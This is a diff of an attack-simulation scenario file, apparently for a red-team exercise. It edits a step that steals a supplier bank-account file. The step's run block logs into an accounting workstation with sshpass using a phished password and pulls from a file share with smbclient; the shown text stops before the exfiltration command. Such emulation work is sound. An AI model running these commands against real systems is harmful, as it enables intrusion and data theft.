@@ -114,13 +114,13 @@ attack "erp-lateral-movement" {
 
 attack "supplier-data-exfiltration" {
   title       = "Supplier bank-account file exfiltrated to the attacker"
-  description = "mgonzalez may read the accounting share; the file leaves through the workstation's HTTP channel to the attacker."
+  description = "mgonzalez may read the accounting share; the file is staged on the workstation and leaves through its HTTP channel to the attacker. The target recorded is the workstation: the file leaves from it, and the callback comes from it."
   technique   = ["T1039", "T1041"]
   after       = attack.phished-credential-foothold
   when        = "succeeded"
   delay       = "25m"
   from        = attacker.red
-  target      = host.archivos
+  target      = host.ws-contab
   run = ["bash", "-c", <<-EOT
     sshpass -p '${secret("mgonzalez")}' ssh mgonzalez@${host.ws-contab.address} bash -s <<'REMOTE'
     smbclient //${host.archivos.address}/contabilidad -U 'mgonzalez%${secret("mgonzalez")}' \
